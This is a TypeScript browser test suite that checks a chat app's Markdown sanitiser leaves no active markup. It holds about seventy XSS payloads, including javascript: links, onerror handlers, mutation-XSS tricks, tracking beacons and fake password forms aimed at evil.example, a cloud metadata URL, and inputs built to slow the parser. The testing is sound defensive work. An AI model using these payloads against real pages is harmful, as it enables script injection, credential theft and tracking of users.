import type { Browser, Page } from 'playwright-core';
import { build, type Rollup } from 'vite';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { launchBrowser } from '../browser/launch-browser.ts';

// What a model writes is put into the page as sanitised Markdown. Here it is rendered in a real browser, on a page
// without any CSP that would protect it, and the result is checked node by node.

let browser: Browser;
let page: Page;
const asked: string[] = [];

beforeAll(async () => {
  browser = await launchBrowser();
  page = await (await browser.newContext({ locale: 'en-GB' })).newPage();
  await page.route('**/*', (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  await page.setContent('<main id="answer"></main>');
  await page.addScriptTag({ content: await bundled() });
});

afterAll(() => browser.close());

const hostile: readonly string[] = [
  '<script>window.hit = 1</script>',
  '<img src=x onerror="window.hit = 1">',
  '<svg onload="window.hit = 1"><script>window.hit = 1</script></svg>',
  '<svg><animate attributeName=href values="javascript:window.hit=1" /></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=window.hit=1>"></noscript>',
  '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
  '<style>@import "http://evil.example/x.css"; body { display: none }</style>',
  '<link rel=stylesheet href="http://evil.example/x.css">',
  '<base href="http://evil.example/">',
  '<meta http-equiv=refresh content="0; url=http://evil.example/">',
  '<form action="http://evil.example/"><input name=q autofocus onfocus="window.hit = 1"><button>Go</button></form>',
  '<a href="javascript:window.hit=1" id="location" name="body">x</a>',
  '[x](javascript:window.hit=1)',
  '[x](java\nscript:window.hit=1)',
  '[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=)',
  '[x](vbscript:x "onmouseover=window.hit=1")',
  '![x](http://evil.example/pixel.png)',
  '![x" onerror="window.hit=1](x)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5oaXQ9MSI+)',
  '[x]: javascript:window.hit=1\n\n[x]',
  '<http://evil.example/> and http://evil.example/auto and mailto:a@evil.example',
  '```"><img src=x onerror=window.hit=1>\ncode\n```',
  '`<img src=x onerror=window.hit=1>`',
  '| a | b |\n|---|---|\n| <img src=x onerror=window.hit=1> | [y](javascript:window.hit=1) |',
  '&lt;img src=x onerror=window.hit=1&gt; &#x3C;script&#x3E;',
  '- [ ] <input type=image src=x onerror=window.hit=1>',
  '<!--<img src="--><img src=x onerror=window.hit=1>',
  '<x-y is="z" onclick="window.hit=1" style="position:fixed;inset:0">x</x-y>',
  '<p id="__proto__" class="toString">x</p>',
  '\u0000<scr\u0000ipt>window.hit=1</scr\u0000ipt>',
  '\u202E\u2066<script>window.hit=1</script>',
  // Markup that becomes other markup when it is parsed again.
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>',
  '<svg></p><style><a id="</style><img src=1 onerror=window.hit=1>">',
  '<svg><foreignObject><iframe srcdoc="<script>parent.hit=1</script>"></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCI+PC9zdmc+#x"></use></svg>',
  '<svg><set attributeName=href to="javascript:window.hit=1"></set><a><text>x</text></a></svg>',
  '<math href="javascript:window.hit=1">x</math><maction actiontype="statusline#http://evil.example">x</maction>',
  '<template><img src=x onerror=window.hit=1></template>',
  '<template shadowrootmode=open><style>:host{position:fixed;inset:0}</style><img src=x onerror=window.hit=1></template>',
  '<xmp><p title="</xmp><img src=x onerror=window.hit=1>"></xmp>',
  '<textarea></textarea><img src=x onerror=window.hit=1><plaintext>',
  '<select><style></select><img src=x onerror=window.hit=1></style></select>',
  '<p title="`<img src=x onerror=window.hit=1>`">',
  '<![CDATA[><img src=x onerror=window.hit=1>]]>',
  '<?xml-stylesheet href="javascript:window.hit=1"?><img src=x onerror=window.hit=1>',
  '`a` <b title="`" onclick="window.hit=1">`x',
  // What would tell somebody that it was read.
  '<div style="background:url(http://evil.example/b)">x</div><style>input[value^=a]{background:url(http://evil.example/a)}</style>',
  '<video src="http://evil.example/v" poster="http://evil.example/p" autoplay><track src="http://evil.example/t"></video>',
  '<audio src="http://evil.example/a" autoplay></audio><embed src="http://evil.example/e"><object data="http://evil.example/o"></object>',
  '<picture><source srcset="http://evil.example/s"><img srcset="http://evil.example/i 2x" loading=eager></picture>',
  '<link rel=preload as=image href="http://evil.example/l"><link rel=dns-prefetch href="//evil.example"><link rel=prerender href="//evil.example">',
  '<body background="http://evil.example/b"><table background="http://evil.example/t"><td background="http://evil.example/c">x',
  '<img src="http://127.0.0.1:1/rpc"><iframe src="http://169.254.169.254/latest/meta-data/"></iframe>',
  '![a](http://evil.example/?q=secret "t") ![b](//evil.example/b) ![c][r]\n\n[r]: http://evil.example/r',
  '[![x](http://evil.example/i)](http://evil.example/l)',
  // What would trick a person into giving something away.
  '<dialog open><form method=dialog action="http://evil.example/"><input type=password name=key></form></dialog>',
  '<button formaction="javascript:window.hit=1" type=submit>Sign in again</button><isindex action="http://evil.example">',
  '<a href="http://evil.example/" target=_blank ping="http://evil.example/p">Your session has ended</a>',
  '<area href="javascript:window.hit=1"><map name=m></map><input type=image src=x onerror=window.hit=1>',
  '<details open ontoggle="window.hit=1"><summary accesskey=x onclick="window.hit=1">x</summary></details>',
  '<p contenteditable onfocus="window.hit=1" tabindex=1 autofocus>x</p><marquee onstart="window.hit=1">x</marquee>',
  '<p popover id=p onbeforetoggle="window.hit=1">x</p><button popovertarget=p>y</button>',
  '<http://evil.example/?a=<img/src=x/onerror=window.hit=1>>',
  '[x](<javascript:window.hit=1> "onclick=window.hit=1") [y](&#106;avascript:window.hit=1) [z](JaVaScRiPt&colon;window.hit=1)',
  '[x](file:///etc/passwd) [y](\\\\evil.example\\share) [z](ms-word:ofe|u|http://evil.example/x)',
  '# <img src=x onerror=window.hit=1>\n> <img src=x onerror=window.hit=1>\n1. <img src=x onerror=window.hit=1>',
  '~~<img src=x onerror=window.hit=1>~~ **<img src=x onerror=window.hit=1>** _[x](javascript:window.hit=1)_',
  '<p><table><tr><td><svg><desc><td></desc></svg><img src=x onerror=window.hit=1></td></tr></table>',
];

test.each(hostile)('%j renders as text and nothing active', async (text) => {
  const made = await render(text);
  expect(made.attributes).toEqual([]);
  expect(made.tags.filter((tag) => !allowed.has(tag))).toEqual([]);
  expect(made.hit).toBe(false);
  expect(asked).toEqual([]);
});

test('renders Markdown, code and tables', async () => {
  const { tags, text } = await render(
    ['# Title', '**bold** `code`', '| a | b |\n|---|---|\n| 1 | 2 |', '```sql\nSELECT 1 < 2\n```', '1. x'].join('\n\n'),
  );
  for (const tag of ['h1', 'strong', 'code', 'table', 'th', 'td', 'pre', 'ol', 'li']) expect(tags).toContain(tag);
  expect(text).toContain('SELECT 1 < 2');
});

test('shows HTML in an answer as plain text', async () => {
  expect((await render('a <b onclick="x">bold</b> word')).text.trim()).toBe('a <b onclick="x">bold</b> word');
});

test('renders texts designed to make parsing slow', async () => {
  for (const text of [
    '>'.repeat(2_000),
    '['.repeat(5_000),
    '*a_'.repeat(3_000),
    '- '.repeat(1_000),
    '`'.repeat(9_999),
    // A paragraph of marks: marked's time is quadratic in it, so that these would take minutes.
    '*a_'.repeat(20_000),
    '*!'.repeat(30_000),
    '~a~~'.repeat(20_000),
    '![['.repeat(20_000),
    // A parser that guesses wrong about code has all of these marks to go through.
    `\`\`\`\n${'*a_'.repeat(20_000)}`,
    `- x\n${'*a_'.repeat(20_000)}`,
    Array.from({ length: 2_000 }, (_, depth) => `${' '.repeat(depth)}- a`).join('\n'),
    'a word '.repeat(800_000),
  ]) {
    const { hit, text: shown } = await render(text);
    expect({ hit, isThere: shown.length > 0 }).toEqual({ hit: false, isThere: true });
  }
});

test('a text too costly to parse as Markdown keeps its words and lines', async () => {
  const { tags, text } = await render(`one\n${'*a_'.repeat(20_000)}`);
  expect(tags).toEqual(['p', 'br']);
  expect(text.startsWith('one*a_*a_')).toBe(true);
});

test('still renders a long list with bold text and code full of Markdown characters', async () => {
  const list = Array.from({ length: 400 }, (_, item) => `- **item ${item}**: some _words_ on it`).join('\n');
  const { tags } = await render(`${list}\n\n\`\`\`python\n${'__init__ * 2 '.repeat(1_000)}\n\`\`\``);
  expect(tags.filter((tag) => tag === 'strong')).toHaveLength(400);
  expect(tags).toContain('pre');
});

const allowed = new Set(
  'p br hr strong em del code pre ul ol li blockquote h1 h2 h3 h4 h5 h6 table thead tbody tr th td sub sup'.split(' '),
);

function render(text: string) {
  return page.evaluate(async (markdown) => {
    const place = document.getElementById('answer') as HTMLElement;
    const { answerHtml } = (window as unknown as { made: { answerHtml: (text: string) => string } }).made;
    place.innerHTML = answerHtml(markdown);
    // What would load or fire does so now.
    await new Promise((resolve) => setTimeout(resolve, 5));
    const nodes = [...place.querySelectorAll('*')];
    return {
      tags: nodes.map((node) => node.tagName.toLowerCase()),
      attributes: nodes.flatMap((node) => [...node.attributes].map(({ name, value }) => `${name}=${value}`)),
      text: place.textContent ?? '',
      hit: 'hit' in window,
    };
  }, text);
}

/** The page's own file, with the libraries it uses. */
async function bundled(): Promise<string> {
  const built = await build({
    ...{ configFile: false, logLevel: 'error' },
    build: {
      ...{ write: false, minify: false },
      lib: { entry: 'src-renderer/chat/answer-html.ts', formats: ['iife'], name: 'made' },
    },
  });
  const [output] = (Array.isArray(built) ? built : [built]) as Rollup.RollupOutput[];
  return output?.output[0].code ?? '';
}
